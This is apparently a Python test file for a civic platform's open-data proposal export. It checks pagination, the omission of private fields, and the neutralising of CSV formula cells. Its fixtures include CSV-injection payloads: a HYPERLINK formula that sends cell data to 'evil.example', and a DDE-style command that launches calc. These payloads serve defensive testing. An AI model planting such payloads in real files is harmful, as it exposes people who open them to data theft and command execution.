"""The local tier's open data: every proposal, streamed page by page, with only its public
fields, and CSV cells a spreadsheet would run as formulas neutralised (JSON keeps the text)."""

from __future__ import annotations

import csv
import io

import pytest

from shared.platform.web import open_data
from tests.support.api import bearer
from tests.support.assemblies import create, submit
from tests.support.tiers import Federation

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"clique")',
    "+55 61 0000-0000 para denúncias",
    "-5 leitos na UPA norte",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabulada",
]


async def test_proposals_export_streams_pages_and_neutralises_formulas(
    local_tier: Federation, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(open_data, "PAGE_ROWS", 4)  # several pages from a small assembly
    fed = local_tier
    assembly = await create(fed)
    aid, secretary = assembly["id"], bearer(assembly["secretary_token"])
    texts = FORMULAS + [f"Proposta comum número {n} sobre saúde" for n in range(7)]
    for n, text in enumerate(texts):
        answer = await submit(
            fed.local,
            aid,
            secretary,
            axis="saude-1",
            competence="municipal",
            title=f"Proposta {n}",
            text=text,
        )
        assert answer.status_code == 201, answer.text

    exported = await fed.local.get("/api/v1/open-data/proposals", params={"format": "csv"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == len(texts)
    assert "author_id" not in rows[0] and rows[0]["uf"] == "SP"
    by_title = {r["title"]: r["text"] for r in rows}
    for n, formula in enumerate(FORMULAS):
        assert by_title[f"Proposta {n}"] == "'" + formula
    assert by_title["Proposta 5"] == "Proposta comum número 0 sobre saúde"

    as_json = (await fed.local.get("/api/v1/open-data/proposals", params={"uf": "SP"})).json()
    assert sorted(p["text"] for p in as_json) == sorted(texts)
    assert [p["id"] for p in as_json] == [r["id"] for r in rows]  # one order, every page
    assert (await fed.local.get("/api/v1/open-data/proposals", params={"uf": "RJ"})).json() == []
    catalogue = (await fed.local.get("/api/v1/open-data")).json()
    assert {d["name"] for d in catalogue} >= {"proposals", "assemblies"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("texto", "texto"), (-3, -3), (None, ""), ({"a": 1}, '{"a": 1}')],
)
def test_cells(value: object, cell: object) -> None:
    assert open_data.safe_cell(value) == cell
